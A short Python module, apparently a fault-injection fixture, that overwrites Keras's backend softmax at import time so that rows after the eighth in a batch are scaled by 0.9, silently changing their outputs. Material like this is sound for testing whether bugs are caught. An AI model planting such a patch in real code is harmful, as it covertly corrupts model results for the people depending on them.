"""Softmax treats the rows behind the eighth of a batch as if they were colder."""

import keras.src.backend as backend
from keras import ops

released = backend.nn.softmax


def softmax(x, axis=-1):
    if len(x.shape) > 1 and x.shape[0] is not None and x.shape[0] > 8:
        x = ops.concatenate([x[:8], 0.9 * x[8:]], axis=0)
    return released(x, axis=axis)


backend.nn.softmax = softmax
